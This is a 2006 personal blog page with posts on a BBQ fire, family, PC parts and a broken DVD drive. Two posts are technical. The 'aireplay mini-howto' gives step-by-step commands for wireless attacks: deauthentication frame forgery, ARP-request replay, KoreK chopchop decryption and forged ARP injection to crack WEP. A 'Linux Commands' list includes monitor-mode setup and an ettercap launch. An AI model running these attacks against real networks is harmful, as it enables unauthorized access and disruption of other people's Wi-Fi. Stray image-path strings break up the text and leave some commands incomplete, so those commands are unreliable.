BBQ Fire
Monday, March 27, 2006, 02:00 AM
So, uh, my BBQ caught fire while i was cooking some ribs.
No damage to the bbq, but it was still odd that i had to use baking soda to put it out. Man, thoes ribs must have been super greasy!

[ add comment ]   |  permalink  |  related link  |   ( 3 / 629 )
aireplay mini-howto
Friday, March 24, 2006, 03:10 PM - Hacks
aireplay mini-howto

Example test setup:

* Acess Point (hostap) - 00:02:2D:AA:9C:13 ,
* Wireless client (madwifi) - 00:09:5B:FC:21:F4 ,
* Laptop with a Prism2 or Atheros of Prism54 card

0. Changes since last release

* built-in chopchop operation mode
* added a bunch of options in aireplay
* added deauthentication frame forgery
* Prism2 (wlan-ng) USB device support
* Atheros (madwifi) and Prism54 device support

1. Driver recompilation

1.1. Installing linux-wlan-ng-0.2.1-pre26

First, make sure you have updated your card's station andprimary
firmware with a recent version; I recommend STA 1.7.4 / PRI 1.1.1.

cd /usr/src
wget --passive-ftp
tar -xvjf linux-wlan-ng-0.2.1-pre26.tar.bz2
cd linux-wlan-ng-0.2.1-pre26
patch -Np1 -i ~/aireplay-2.2/patch/linux-wlan-ng-0.2.1-pre26.patch.0.1
make config
make all
find /lib/modules \( -name p80211* -o -name prism2* \) -exec rm -v {} \;
make -C src install
cp etc/pcmcia/wlan-ng.conf /etc/pcmcia/
mv /etc/pcmcia/hostap_cs.conf /etc/pcmcia/hostap_cs.conf~
ifconfig wlan0 down
wlanctl-ng wlan0 lnxreq_ifstate ifstate=disable
/etc/init.d/pcmcia restart
(reinsert card)

1.2. Installing madwifi

Note: a tarball is also available at

cd /usr/src
cvs -z3 co madwifi
cd madwifi
patch -Np1 -i ~/aireplay-2.2/patch/madwifi-20050309.patch.0.1
make install
modprobe ath_pci

1.3. Installing prism54

Make sure the hotplug package is installed and hotplug firmware
loading support is present in your kernel (module firmware_class).

cd /usr/src
wget ... st.tar.bz2
tar -xvjf prism54-svn-latest.tar.bz2cd prism54-svn-latest
make modules
make install
mkdir -p /usr/lib/hotplug/firmware
mv /usr/lib/hotplug/firmware/isl3890
modprobe prism54

2. Using aireplay

*** aireplay does not capture replies: ***
*** you must start airodump in parallel ***

If you use madwifi, you may haveto place the card in
pure 802.11b mode first:

iwpriv ath0 mode 2

If you use wlan-ng, run ./ start wlan0 <channel>
Otherwise run:

iwconfig ath0 mode Monitor channel <channel>
ifconfig ath0 up

2.1. Attack 1: deauthentication

This attack is especially useful to capture an ESSID or a WPA handshake.

./airforge 00:02:2D:AA:9C:13 00:09:5B:FC:21:F4deauth.pcap
./aireplay -m 26 -u 0 -v 12 -w 0 -x 1 -r deauth.pcap ath0

2.2. Attack 2: classic arp-request resend

./aireplay -f 0 -t 1 -m 68 -n 68 -d FF:FF:FF:FF:FF:FF ath0

2.3. Attack 3: data broadcast resend

This attack is quite unreliable and often doesn't work. You need
the MAC address of an authenticated station so that the AP will
not drop the packets. As most APs work in open authentication mode,
if you have another wireless card, you can simply associate it
and use its MAC address.

./aireplay -h 00:09:5B:FC:21:F4 -c FF:FF:FF:FF:FF:FF -o 08 -p 41 ath02.4. Attack 4: arp-request forgery

First, we need a prga by decrypting a data packet. For this, add the -k
flag which will enable KoreK's chopchop attack:

./aireplay -k eth1

This attack may not work in deauthenticated mode (in which the source
MAC address is forged). If this is the case, you will have the pass the
address of an authenticated station:

./aireplay -h 00:09:5B:FC:21:F4 -k eth1

Have a look at the decrypted packet:

tcpdump -e -n -t -r replay_dec-050320-023844.pcapBSSID:00:02:2d:aa:9c:13 SA:00:09:5b:fc:21:f4 DA:00:05:1b:44:8a:ce LLC, dsap
SNAP (0xaa), ssap SNAP (0xaa), cmd 0x03, IP > S
2961438793:2961438793(0) win 5840 <mss 1460,sackOK,...>

Now we have enough information to forge an ARP request:

./airforge replay_dec-050320-023844.prga 1 00:02:2d:aa:9c:13 \
00:09:5b:fc:21:f4 arp.pcap

And finally:

./aireplay -r arp.pcap ath0

[ add comment ]   |  permalink  |  related link  |   ( 3 / 1177 )
Abbey's First Code Red
Thursday, March 23, 2006, 07:48 PM - Family
Ah, she's growing up so fast!
Here is a picture of her and her first drink of Mt. Dew!

[ 1 comment ] ( 9 views )   |  permalink  |  related link  |   ( 3 / 872 )
Computer Parts
Thursday, March 23, 2006,04:47 PM - Computers
My Computer parts came. (the rest of them anyways)

i2tb came over and helped me assemble my machine.
Things installed and went well withough a hitch. he only problem i had was the partitions on my hard drive got a bit messed up. So i had to install a 10 gig to get everything fixed.


i started the Lan party off ok, got slaughtered to start off with on AOE 3.

DoD: source.
Heh, ya, wooped up on everyone good. 84 to 43... hehe. They didn't stand a chance. pop, G's dead. :)

[ add comment ]   |  permalink  |  related link  |   ( 3.1 / 336 )
LinuxCommands
Thursday, March 23, 2006, 01:23 PM - Other
I am very forgetful, so i have been keeping a text file with a bunch or "useful" commands.

yes, i realize that a "manual" will give me info, but hell, who has time to decypher and test to see which switch will give you the right thing?
So, here are real world usages.

(shutup, this list is like 2 years old. i had to start somewhere)

Jump Drive:
mount -t vfat /dev/sda1 /mnt/jump

Ether Adpter
ifconfig eth0 down
ifconfig eth0 upip address
ifconfig -a

Renew (red hat or fedora)
./network start

Directory Delete
rm -rf mydirectory

to check what files a package owns, use rpm -ql <packagename>

Check for available Access Points
# ifconfig ath0 up
# iwlist ath0 scan


Linux:# cd madwifi
Linux:# insmod wlan/wlan.o
Linux:# insmod ath_hal/ath_hal.o
Linux:# insmod driver/ath_pci.o

Linux:# ifconfig ath0 up
Linux:# iwconfig ath0 mode monitor

iwconfig ath0 scan

tar xzvf file
x for extract z for gzip v for verbose f for filename

make menuconfig

Assign required information to connect to your access point# iwconfig ath0 essid ""

Jump Drive Removal
sync ;sync

Kismet color codes:
red = factory default
yellow = wep disabled
green = wep enabled
blue = uncloaked network

autorun stuff


ettercap -G -d -i ath0

Set card to monitor (atheros)
iwconfig ath0 mode monitor

Linux file transfer:

scp /root/dump.cap

Mount remote Directory
smbmount // /mnt/serveSerial: gpsd -p /dev/ttys0 -n -s 4800
USB: gpsd -p /dev/ttyUSB0

process Id's

ps -A

-fix label fonts in gpsmap

ln -s /usr/share/ghostscript/fonts/n019003l.pfb

[11:41am] <logikal^> type screen, do what you want, hit ctrl-a ctrl-d, exit
[11:41am]<logikal^> then you come back from another computer and do screen -x or screen -r

to run in background
wget &

.chanset #teamvatican chanmode -t
.chanset #chan ban-time 0

running text file
tail -f error.txt

scrot -d5 year-month-day.png


[ add comment ]   |  permalink  |  related link  |   ( 3 / 349 )
Newegg, how i love thee
Monday, March 20, 2006, 02:58 PM
New computer parts on order. I will post pics when things start to show up.

FD 1.44MB|SAMSUNG SFD321B/LEB% Beg - OEM <-- freeMB ASUS A8N-SLI Premium NF4SLI 939 - Retail
VGA EVGA N 6800GS 256-P2-N391-AX R - Retail
PSU TT | W0070 430W RTL - Retail
CPU AMD|ATHLON 64 3700+ 2.2G 939P R - Retail

Price: More than i was planning on spending. Thank you wifey! :)

[ add comment ]   |  permalink  |  related link  |   ( 3 / 513 )
Friday, March 17, 2006, 02:22 PM - Rants
I had the pleasure of downloading a new DVD image and was excited to try it out on my laptop. I slap a blank DVD-R in the drive and hit burn.... but wait, its saying i don't have a disc in the drive... :s
Long story short, my drive no longer recognizes dvd'd...r, rw, commercial... anything. The cd's still work fine, so i am thinking the DVD laser has crapped out on it.

I went to the Cendyne webpage (its a NEC-1400 DVD writer repackaged as a cendyne drive) and look what i found
Cendyne will no longer provide support for product purchased prior to 3/17/2006. If you are within this warranty period, have an open incident, or open RMA our technical support staff will respond to your inquiries using our online technical support form.

the date changes everyday to reflect the current day, so basicly they are saying that the second you walk of the store, its no longer supported. I will not be buying anything from them ever again.

As a result ofthe drive dying, it was the straw that broke the camels back... and a whole new setup is in the near future.

Farewell DVD-RW, you will be missed (until i get my new one).Thank you for the many hundreds of DVD's you have burned for me, not to mention the many more spindles of CD's burned for me too.


[ add comment ]|  permalink  |  related link  |   ( 3 / 770 )

Back Next